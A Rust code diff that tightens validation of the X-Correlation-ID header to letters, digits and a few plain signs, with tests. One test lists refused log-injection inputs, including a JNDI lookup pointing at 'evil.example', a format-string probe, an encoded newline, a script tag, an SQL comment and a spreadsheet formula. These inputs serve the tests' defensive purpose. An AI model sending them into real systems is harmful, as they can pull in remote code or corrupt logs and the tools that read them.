@@ -10,7 +10,8 @@ use crate::refusal::Refusal;
 /// The longest id that is taken, in characters.
 const MOST_CHARACTERS: usize = 128;
 
-/// What stands in the header `X-Correlation-ID`: 1 to 128 visible ASCII characters.
+/// What stands in the header `X-Correlation-ID`: 1 to 128 letters and digits of ASCII and the signs
+/// `-`, `.`, `_`, `~` and `:`. Services log it, too, and nothing in these means anything to a log.
 #[derive(Clone, Debug, PartialEq, Eq, Hash)]
 pub(crate) struct CorrelationId(Arc<str>);
 
@@ -37,8 +38,8 @@ impl CorrelationId {
 
     fn parse(value: &HeaderValue) -> Option<Self> {
         let bytes = value.as_bytes();
-        let fits =
-            (1..=MOST_CHARACTERS).contains(&bytes.len()) && bytes.iter().all(u8::is_ascii_graphic);
+        let is_plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"-._~:".contains(byte);
+        let fits = (1..=MOST_CHARACTERS).contains(&bytes.len()) && bytes.iter().all(is_plain);
         let text = value.to_str().ok().filter(|_| fits)?;
         Some(Self(text.into()))
     }
@@ -62,6 +63,8 @@ impl CorrelationId {
 
 #[cfg(test)]
 mod tests {
+    use bulkhead_core::ledger::{CorrelationId as PageId, RunId};
+
     use super::*;
 
     fn of(values: &[&[u8]]) -> Option<CorrelationId> {
@@ -74,9 +77,46 @@ mod tests {
     }
 
     #[test]
-    fn visible_ascii_is_taken_as_it_is() {
-        for text in ["r1-0-1", "!~", &"x".repeat(128)] {
+    fn letters_digits_and_plain_signs_are_taken_as_they_are() {
+        for text in ["r1-0-1", "A.z_9~:", &"x".repeat(128)] {
             assert_eq!(of(&[text.as_bytes()]).unwrap().as_str(), text);
+        }
+    }
+
+    #[test]
+    fn what_the_page_makes_is_taken() {
+        let mut rng = fastrand::Rng::with_seed(7);
+        let run = RunId::random(&mut rng);
+        for made in [
+            PageId::of(&run, 0),
+            PageId::of(&run, u32::MAX),
+            PageId::of_reading(Some(&run), &mut rng),
+            PageId::of_reading(None, &mut rng),
+            PageId::random(&mut rng),
+        ] {
+            let taken = of(&[made.as_str().as_bytes()]);
+            assert_eq!(taken.unwrap().as_str(), made.as_str());
+        }
+        let own = CorrelationId::random();
+        assert_eq!(of(&[own.as_str().as_bytes()]), Some(own));
+    }
+
+    /// Each of them has been a way to do something to what reads a log.
+    #[test]
+    fn an_id_that_means_something_to_a_log_is_refused() {
+        for value in [
+            "${jndi:ldap://evil.example/a}",
+            "%n%n",
+            "a%0ab",
+            "<script>",
+            "';--",
+            "\"}",
+            "\\u000a",
+            "=1+1",
+            "a,b",
+            "a/b",
+        ] {
+            assert_eq!(of(&[value.as_bytes()]), None, "{value:?}");
         }
     }
 
